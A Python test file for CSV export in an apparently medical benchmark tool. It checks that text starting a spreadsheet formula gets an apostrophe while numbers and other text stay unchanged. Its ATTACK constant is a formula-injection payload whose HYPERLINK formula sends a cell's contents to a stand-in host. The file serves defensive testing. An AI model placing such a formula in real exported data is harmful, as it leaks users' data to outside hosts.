"""No text of a CSV file is a formula; numbers and other texts stay."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from answer_parts import answer_suite
from hypothesis import given
from hypothesis import strategies as st
from runner_helpers import go, records
from runner_parts import Dim

from medtest.results.tables import make_tables
from medtest.runner.records.spreadsheets import frame_for_csv, table_for_csv, text_cell

ATTACK = '=HYPERLINK("http://x.example/?"&A1,"{}")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("start", STARTS)
def test_texts_that_start_a_formula_get_an_apostrophe(start: str) -> None:
    assert text_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["-0.5", "+3", "-1e-05", "", "a=b", " =1", "'=1", "7 mm", "{}", "..5"])
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert text_cell(text) == text


@given(st.lists(st.none() | st.text() | st.sampled_from(STARTS).flatmap(lambda s: st.text().map(lambda t: s + t))))
def test_records_and_tables_are_treated_equally_and_nothing_else_changes(texts: list[str | None]) -> None:
    numbers = [-1.5] * len(texts)
    schema = pa.schema([("text", pa.string()), ("number", pa.float64())], metadata={b"a": b"b"})
    table = pa.table({"text": texts, "number": numbers}, schema=schema)
    csv_table = table_for_csv(table)
    assert csv_table.schema.equals(schema, check_metadata=True)
    expected = [None if text is None else text_cell(text) for text in texts]
    assert csv_table.column("text").to_pylist() == expected
    assert csv_table.column("number").to_pylist() == numbers
    frame = frame_for_csv(pd.DataFrame({"text": pd.Series(texts, dtype=object), "number": numbers}))
    assert [None if pd.isna(cell) else cell for cell in frame["text"]] == expected
    assert frame["number"].tolist() == numbers
    assert not any(cell and cell.startswith(STARTS) and cell not in texts for cell in expected)


def test_a_models_words_are_exact_in_parquet_and_text_in_csv(tmp_path: Path) -> None:
    suite = answer_suite(seeds=1, systems={"teller": {"words": ATTACK}}, relations={"dim": Dim}, only=["polyps"])
    outcome = go(suite, tmp_path)
    folder = outcome.systems[0].folder
    exact = records(outcome)
    assert exact.answer.str.startswith("=HYPERLINK").all()
    shown = pd.read_csv(folder / "records.csv", keep_default_na=False)
    assert (shown.answer == "'" + exact.answer).all()
    make_tables(folder, suite).write(folder)
    for path in (folder / "tables").glob("*.csv"):
        cells = pd.read_csv(path, dtype=str, keep_default_na=False).to_numpy().ravel()
        assert all(text_cell(cell) == cell for cell in cells), path.name
